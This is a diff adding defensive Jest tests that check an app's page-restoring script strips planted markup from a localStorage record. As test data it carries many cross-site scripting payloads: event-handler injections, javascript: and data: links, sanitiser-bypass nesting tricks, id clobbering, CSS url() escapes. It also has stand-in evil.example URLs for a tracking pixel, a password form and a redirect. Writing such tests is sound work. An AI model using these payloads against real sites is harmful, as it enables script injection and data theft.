@@ -331,3 +331,165 @@ describe("index.html's script", () => {
     expect(paintedHome()).toBe('<h1>Welcome aboard, Anna</h1>');
   });
 });
+
+/**
+ * A record planted in localStorage (a shared tablet's developer tools, any script that once ran
+ * in the origin): the script paints only markup the app itself could have drawn, so no planted
+ * handler, script, foreign link or element that clobbers the page's own survives the paint.
+ */
+describe("index.html's script and a planted record", () => {
+  const PLANTED = 'window.__planted = true';
+
+  /** Paints `html` (and the splash `splash`, when given) from a record of this build. */
+  function paintPlanted(html: string, splash?: string): HTMLElement {
+    if (splash === undefined) localStorage.setItem('marine.splash', 'off');
+    store(record({ html, splash: splash ?? '' }));
+    runIndexScript();
+    const picture = paintedPicture();
+    if (!picture) throw new Error('nothing was painted');
+    return picture;
+  }
+
+  /** Every attribute of every element painted, as `tag@name=value`. */
+  const attributesOf = (picture: HTMLElement) =>
+    [...picture.querySelectorAll('*')].flatMap((element) =>
+      [...element.attributes].map((a) => `${element.localName}@${a.name}=${a.value}`),
+    );
+
+  /** Fires the events a planted handler would wait for on every painted element. */
+  function fireEverything(picture: HTMLElement): void {
+    for (const element of picture.querySelectorAll('*')) {
+      for (const type of ['error', 'load', 'click', 'focus', 'animationstart']) {
+        element.dispatchEvent(new Event(type));
+      }
+    }
+  }
+
+  afterEach(() => {
+    delete (window as { __planted?: boolean }).__planted;
+  });
+
+  it.each([
+    ['an image whose load fails', `<img src=x onerror="${PLANTED}">`],
+    ['an svg that loads', `<svg onload="${PLANTED}"><path d="M0 0"/></svg>`],
+    ['a handler in capitals', `<p ONCLICK="${PLANTED}" OnMouseOver="${PLANTED}">Hi</p>`],
+    ['a svg animation', `<svg><animate onbegin="${PLANTED}" attributeName="x" dur="1s"/></svg>`],
+    ['a details element', `<details open ontoggle="${PLANTED}"><summary>x</summary></details>`],
+  ])('paints %s without its handler', (_, html) => {
+    const picture = paintPlanted(html);
+    fireEverything(picture);
+    expect((window as { __planted?: boolean }).__planted).toBeUndefined();
+    expect(attributesOf(picture).filter((text) => /@on/i.test(text))).toEqual([]);
+  });
+
+  it('paints no script, style, frame, object, form or page-level element', () => {
+    const picture = paintPlanted(
+      `<script>${PLANTED}</script><style>body{display:none}</style>` +
+        `<iframe srcdoc="<script>${PLANTED}</script>"></iframe><object data="/x"></object>` +
+        '<embed src="/x"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">' +
+        '<link rel="stylesheet" href="https://evil.example/a.css"><template><p>t</p></template>' +
+        '<form action="https://evil.example/"><input name="password"><textarea></textarea><select></select></form>' +
+        '<math><mi>x</mi></math><main>kept</main>',
+      `<button class="splash">Splash</button><script>${PLANTED}</script>`,
+    );
+    expect([...picture.querySelectorAll('*')].map((element) => element.localName).sort()).toEqual([
+      'button',
+      'div',
+      'main',
+    ]);
+    expect(picture.textContent).toContain('kept');
+    expect((window as { __planted?: boolean }).__planted).toBeUndefined();
+  });
+
+  it('keeps links and images of the app only', () => {
+    const picture = paintPlanted(
+      [
+        '<a href="javascript:window.__planted=true">1</a>',
+        '<a href=" JaVaScRiPt:void(0)">2</a>',
+        '<a href="https://evil.example/login">3</a>',
+        '<a href="//evil.example/login">4</a>',
+        '<a href="/\\evil.example/login">5</a>',
+        '<a href="data:text/html,<script>x</script>">6</a>',
+        '<a href="/profile">7</a>',
+        '<a href="#content">8</a>',
+        '<img src="https://evil.example/pixel.png?who=anna" alt="">',
+        '<img src="/ranks/L1.svg" alt="">',
+        '<img src="/ranks/L1.svg" srcset="https://evil.example/a.png 2x" alt="">',
+        '<a href="/topics" ping="https://evil.example/">9</a>',
+        '<svg><a href="javascript:window.__planted=true"><text>10</text></a><use href="https://evil.example/s.svg#a"/><image href="https://evil.example/i.png"/></svg>',
+      ].join(''),
+    );
+    expect(attributesOf(picture).filter((text) => /@(href|src|srcset|ping)=/.test(text))).toEqual([
+      'a@href=/profile',
+      'a@href=#content',
+      'img@src=/ranks/L1.svg',
+      'img@src=/ranks/L1.svg',
+      'a@href=/topics',
+    ]);
+  });
+
+  it('survives the nesting tricks that fool sanitisers which serialise and parse again', () => {
+    const picture = paintPlanted(
+      [
+        `<noscript><p title="</noscript><img src=x onerror=${PLANTED}>"></noscript>`,
+        `<math><mtext><table><mglyph><style><img src=x onerror="${PLANTED}">`,
+        `</style></mglyph></table></mtext></math>`,
+        `<svg><foreignObject><img src=x onerror="${PLANTED}"></foreignObject></svg>`,
+        `<svg></p><style><a id="</style><img src=x onerror=${PLANTED}>">`,
+        `<div><div><div><span><img/src="x"/onerror="${PLANTED}"></span></div></div></div>`,
+      ].join(''),
+    );
+    fireEverything(picture);
+    expect((window as { __planted?: boolean }).__planted).toBeUndefined();
+    expect(attributesOf(picture).filter((text) => /@(on|src)/i.test(text))).toEqual([]);
+  });
+
+  it("cannot stand in for the page's own elements: no ids, so #root and the templates stay the page's", () => {
+    const pageRoot = root();
+    paintPlanted(
+      '<p id="picture" name="takeInstallOffer">x</p><div id="root">planted root</div><div id="start-failed"></div>',
+    );
+    // The picture the script painted, found without asking for its id.
+    const picture = pageRoot.previousElementSibling as HTMLElement;
+    expect(picture.textContent).toContain('planted root');
+    expect(document.getElementById('root')).toBe(pageRoot);
+    expect(document.getElementById('picture')).toBe(picture);
+    expect(document.getElementById('start-failed')).toBeNull();
+    expect(attributesOf(picture).filter((text) => /@(id|name)=/.test(text))).toEqual([]);
+    expect(typeof (window as { takeInstallOffer?: unknown }).takeInstallOffer).toBe('function');
+  });
+
+  it('keeps inline styles that fetch nothing, and drops those that would', () => {
+    const picture = paintPlanted(
+      '<span class="goal-bar-fill" style="width: 40%; background-image: url(https://evil.example/p.png)"></span>' +
+        '<p style="background: u\\72 l(https://evil.example/q.png)">x</p>' +
+        '<svg><path d="M0 0" fill="url(https://evil.example/f.svg#p)" stroke="currentColor"/></svg>',
+    );
+    const bar = picture.querySelector('.goal-bar-fill') as HTMLElement;
+    expect(bar.style.width).toBe('40%');
+    expect(bar.style.backgroundImage).toBe('');
+    expect((picture.querySelector('p') as HTMLElement).style.background).toBe('');
+    const path = picture.querySelector('path') as SVGElement;
+    expect(path.getAttribute('fill')).toBeNull();
+    expect(path.getAttribute('stroke')).toBe('currentColor');
+  });
+
+  it("keeps the app's own markup as the app drew it", () => {
+    const own =
+      '<header class="header"><a class="nav-link active" href="/topics" data-status="active" aria-current="page">' +
+      '<svg viewBox="0 0 24 24" width="24" height="24" fill="none" stroke="currentColor" stroke-width="2" aria-hidden="true" focusable="false">' +
+      '<circle cx="12" cy="5" r="2.5"></circle><path d="M12 7.5V21"></path></svg>Темы</a></header>' +
+      '<main class="page home"><section class="card" aria-labelledby="home-title"><h1>Добро пожаловать</h1>' +
+      '<progress max="100" value="40" aria-label="40 %"></progress><img class="rank-image" src="/ranks/L1.svg" alt="" width="96" height="96">' +
+      '<button type="button" class="btn">Начать</button></section></main>';
+    const picture = paintPlanted(own);
+    expect(picture.querySelector('.home-snapshot')?.innerHTML).toBe(own);
+  });
+
+  it('paints nothing when the splash is on and a planted splash is nothing the app draws', () => {
+    store(record({ html: '<main>home</main>', splash: `<script>${PLANTED}</script>` }));
+    runIndexScript();
+    expect(paintedPicture()).toBeNull();
+    expect(document.body.textContent).not.toContain('home');
+  });
+});
